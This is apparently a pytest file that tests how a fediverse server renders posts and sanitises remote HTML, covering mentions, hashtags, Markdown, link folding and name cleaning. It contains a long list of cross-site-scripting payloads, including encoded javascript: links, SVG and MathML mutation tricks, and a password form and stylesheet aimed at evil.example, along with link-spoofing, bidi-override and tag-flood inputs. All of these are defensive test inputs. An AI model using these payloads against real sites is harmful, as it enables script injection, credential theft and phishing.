"""Words in and out: what authors type, and what others send (attacks 55 and 56)."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedi.social import text
from fedi.social.text import Named

URL = "https://here.example"
KNOWN = {
    "alice": Named("alice", f"{URL}/@alice"),
    "bob@far.example": Named("bob@far.example", "https://far.example/@bob"),
    "bob@far.example:8443": Named("bob@far.example:8443", "https://far.example:8443/@bob"),
}


def rendered(words: str, *, markdown: bool = False) -> str:
    return text.render(words, KNOWN, URL, markdown=markdown).html


@pytest.mark.parametrize(
    ("typed", "made"),
    [
        ("hello", "<p>hello</p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("one\n\ntwo", "<p>one</p><p>two</p>"),
        ("one\r\n\r\ntwo", "<p>one</p><p>two</p>"),
        ("1 < 2 & <b>", "<p>1 &lt; 2 &amp; &lt;b&gt;</p>"),
        ("&amp; stays", "<p>&amp;amp; stays</p>"),
        ("*stars* and `ticks`", "<p>*stars* and `ticks`</p>"),
        ("    four spaces", "<p>four spaces</p>"),
        ("mail me@far.example", "<p>mail me@far.example</p>"),
        ("@nobody @nobody@far.example", "<p>@nobody @nobody@far.example</p>"),
        ("#1 and #", "<p>#1 and #</p>"),
        ("page.html#part", "<p>page.html#part</p>"),
        ("javascript:alert(1)", "<p>javascript:alert(1)</p>"),
    ],
)
def test_plain_text_becomes_paragraphs(typed: str, made: str) -> None:
    assert rendered(typed) == made


def test_mentions_are_linked_as_mastodon_does() -> None:
    made = text.render("hi @Alice, @bob@far.example! @bob@far.example:8443", KNOWN, URL)
    assert made.html == (
        '<p>hi <span class="h-card" translate="no">'
        f'<a href="{URL}/@alice" class="u-url mention">@<span>alice</span></a></span>, '
        '<span class="h-card" translate="no"><a href="https://far.example/@bob" '
        'class="u-url mention">@<span>bob</span></a></span>! '
        '<span class="h-card" translate="no"><a href="https://far.example:8443/@bob" '
        'class="u-url mention">@<span>bob</span></a></span></p>'
    )
    assert made.mentions == ["alice", "bob@far.example", "bob@far.example:8443"]


def test_hashtags_are_linked_and_found_once() -> None:
    made = text.render("#Käse (#käse) #cat_pics #日本語", KNOWN, URL)
    assert made.tags == ["Käse", "cat_pics", "日本語"]
    assert (
        f'<a href="{URL}/tags/k%C3%A4se" class="mention hashtag" rel="tag">#<span>Käse</span></a>'
        in made.html
    )
    assert text.normal_tag("#ＡＩＧｅｎｅｒａｔｅｄ") == "aigenerated"


@pytest.mark.parametrize(
    ("typed", "href", "rest"),
    [
        ("see https://far.example/a.", "https://far.example/a", "."),
        ("(https://far.example/a_(b))", "https://far.example/a_(b)", ")"),
        ("https://far.example/?a=1&b=2", "https://far.example/?a=1&b=2", ""),
        ("https://far.example/@bob", "https://far.example/@bob", ""),
        ("https://far.example/#part", "https://far.example/#part", ""),
    ],
)
def test_links_end_where_they_end(typed: str, href: str, rest: str) -> None:
    made = rendered(typed)
    [found] = re.findall(r'href="([^"]*)"', made)
    assert html.unescape(found) == href
    assert made.endswith(f"</a>{rest}</p>")
    assert text.plain(made) == typed


def test_long_links_are_folded_and_remain_whole() -> None:
    link = "https://www.far.example/" + "x" * 50
    made = rendered(link)
    assert '<span class="invisible">https://www.</span>' in made
    assert '<span class="ellipsis">far.example/xxxxxxxxxxxxxxxxxx</span>' in made
    assert text.plain(made) == link


def test_markdown_where_it_is_asked_for() -> None:
    made = rendered(
        "**bold** `@alice` [x](https://far.example) @alice\n\n> said\n\n- one", markdown=True
    )
    assert "<strong>bold</strong>" in made
    assert "<code>@alice</code>" in made
    assert '<a href="https://far.example" rel="nofollow noopener">x</a>' in made
    assert 'class="u-url mention"' in made
    assert "\n" not in made
    assert "a\nb" in rendered("```\na\nb\n```", markdown=True)
    assert "<blockquote>" in made and "<li>one</li>" in made


@pytest.mark.parametrize(
    "typed",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](https://far.example/pixel.png)",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '[x](https://far.example "onmouseover=alert(1)")',
    ],
)
def test_markdown_carries_nothing_that_acts(typed: str) -> None:
    assert_harmless(rendered(typed, markdown=True))


ALLOWED = re.compile(
    r"<(?:/(?:p|span|a|del|s|pre|blockquote|code|b|strong|u|i|em|ul|ol|li|ruby|rt|rp)"
    r"|(?:p|br|span|a|del|s|pre|blockquote|code|b|strong|u|i|em|ul|ol|li|ruby|rt|rp)"
    r'(?: (?:href="(?:https?|dat|dweb|ipfs|ipns|ssb|gopher|xmpp|magnet|gemini):[^"<>]*"'
    r'|class="[\w -]*"|rel="(?:nofollow noopener|tag)"|translate="no"|lang="[\w-]*"'
    r'|start="-?\d+"|reversed="[^"]*"|value="-?\d+"))* ?/?)>',
    re.IGNORECASE,
)


def assert_harmless(markup: str) -> None:
    """Nothing but the tags and attributes that Mastodon keeps."""
    rest = ALLOWED.sub("", markup)
    assert "<" not in rest and ">" not in rest.replace("&gt;", ""), markup


# Attack 55, and what is known to have worked somewhere.
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="position:fixed">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="/settings/delete">x</a>',
    '<a href="//evil.example">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example';</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<h1 onclick=alert(1)>x</h1>",
    '<a title="<h1>" href="https://far.example">x</a>',
    "<!-- <b> --> x <![CDATA[ <script>alert(1)</script> ]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\ud800<script>\udfff",
    "<b\x00><script\x00>alert(1)</script>",
    '<span class="admin-bar settings button--danger">x</span>',
    '<p class="invisible">x</p>',
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_what_acts_styles_or_loads_is_stripped(markup: str) -> None:
    cleaned = text.sanitise(markup)
    assert_harmless(cleaned)
    assert "alert(1)" not in re.sub(r"<[^>]*>", "", cleaned) or "script" not in cleaned
    assert text.sanitise(cleaned) == cleaned
    assert "<" not in text.plain(cleaned)


@pytest.mark.parametrize(
    ("markup", "cleaned"),
    [
        ("<p>x</p>", "<p>x</p>"),
        ("<h1>Title</h1><p>x</p>", "<p><strong>Title</strong></p><p>x</p>"),
        ("<table><tr><td>x</td></tr></table>", "x"),
        ("<p>un<b>closed", "<p>un<b>closed</b></p>"),
        ('<ol start="3" reversed><li value="7">x</li></ol>',
         '<ol start="3" reversed=""><li value="7">x</li></ol>'),
        ('<p lang="de">x</p>', '<p lang="de">x</p>'),
        ('<span class="h-card evil">x</span>', '<span class="h-card">x</span>'),
        ("<ruby>漢<rp>(</rp><rt>kan</rt></ruby>", "<ruby>漢<rp>(</rp><rt>kan</rt></ruby>"),
        ('<a href="https://far.example" target="_blank">x</a>',
         '<a href="https://far.example" rel="nofollow noopener">x</a>'),
    ],
)  # fmt: skip
def test_what_mastodon_keeps_is_kept(markup: str, cleaned: str) -> None:
    assert text.sanitise(markup) == cleaned


def test_a_link_may_fold_only_its_own_address() -> None:
    """CVE-2023-36462: a formatted link that shows an address which is not where it leads."""
    honest = (
        '<a href="https://far.example/path" rel="nofollow noopener">'
        '<span class="invisible">https://</span><span class="ellipsis">far.exam</span>'
        '<span class="invisible">ple/path</span></a>'
    )
    assert text.sanitise(honest) == honest
    lying = honest.replace('href="https://far.example/path"', 'href="https://evil.example/"')
    assert "invisible" not in text.sanitise(lying)
    assert "ellipsis" not in text.sanitise(lying)
    assert "invisible" not in text.sanitise('<p><span class="invisible">hidden</span></p>')


@pytest.mark.parametrize(
    "piece", ["<b>", "<p><i>", "<ul><li>", "<a href='https://x.example'>", "<"]
)
def test_a_flood_of_tags_comes_to_an_end(piece: str) -> None:
    flood = piece * (150_000 // len(piece))
    assert_harmless(text.sanitise(flood))
    assert "<b" not in text.plain(flood)


def test_too_much_is_cut() -> None:
    assert len(text.sanitise("x" * (text.MAX_REMOTE_HTML + 5))) == text.MAX_REMOTE_HTML
    assert len(text.hashtags(" ".join(f"#tag{n}" for n in range(500)))) == text.MAX_TAGS
    assert (
        len(text.handles(" ".join(f"@p{n}@far.example" for n in range(500)))) == text.MAX_MENTIONS
    )


@given(st.text(st.characters(exclude_categories=[]), max_size=300))
def test_whatever_is_typed_is_harmless_and_stays_what_it_was(words: str) -> None:
    made = text.render(words, KNOWN, URL).html
    assert_harmless(made)
    shown = text.plain(made).split()
    assert shown == text.clean(words).split()


@given(st.text(st.sampled_from("<>/\"'= &;abpscript:alert()#@."), max_size=120))
def test_whatever_is_sent_is_harmless(markup: str) -> None:
    cleaned = text.sanitise(markup)
    assert_harmless(cleaned)
    assert text.sanitise(cleaned) == cleaned


# Attack 56.
@pytest.mark.parametrize(
    ("given_name", "shown"),
    [
        ("Bob", "Bob"),
        ("Bob\u202egnp.exe", "Bobgnp.exe"),
        ("\u2066admin\u2069", "admin"),
        ("two\nlines\t here", "two lines here"),
        ("x" * 500, "x" * 200),
        ("\x00\ud800Bob", "Bob"),
        ("👩\u200d🎨", "👩\u200d🎨"),
    ],
)
def test_names_stay_in_their_place(given_name: str, shown: str) -> None:
    assert text.name(given_name, 200) == shown


def test_mentions_are_read_from_links_as_mastodon_writes_them() -> None:
    markup = text.sanitise(
        '<p><span class="h-card"><a href="https://far.example/@bob" class="u-url mention">'
        "@<span>bob</span></a></span> and @alice "
        '<a href="https://far.example/tags/x" class="mention hashtag">#<span>x</span></a></p>'
    )
    addresses, rest = text.mention_links(markup)
    assert addresses == ["https://far.example/@bob"]
    assert text.handles(rest) == ["alice"]
    assert text.hashtags(rest) == ["x"]


def test_plain_keeps_lines_and_words() -> None:
    assert text.plain("<p>one<br>two</p><p>three &amp; four</p>") == "one\ntwo\n\nthree & four"
    assert text.plain("<script>x</script>&lt;b&gt;") == "<b>"


@pytest.mark.parametrize(
    "opening", ["<div>", "<ul><li>", "<pre>", "<b><p>", "<blockquote>", "<h1>", "<table><tr><td>"]
)
def test_html_that_is_deep_is_made_shallow(opening: str) -> None:
    """Reading nested elements takes the square of their number, and apps read by recursion."""
    cleaned = text.sanitise(f"<p>hello</p>{opening * 40_000}")
    depth = deepest = elements = 0
    for tag in re.findall(r"<(/?)[a-z]", cleaned):
        depth += -1 if tag else 1
        deepest, elements = max(deepest, depth), elements + 1
    assert deepest <= text.MAX_DEPTH and depth == 0
    assert elements <= 10 * text.MAX_REMOTE_TAGS
    assert text.plain(cleaned).startswith("hello")


def test_words_that_are_deep_stay() -> None:
    assert text.plain(text.sanitise("<ul><li>" * 500 + "words")) == "words"
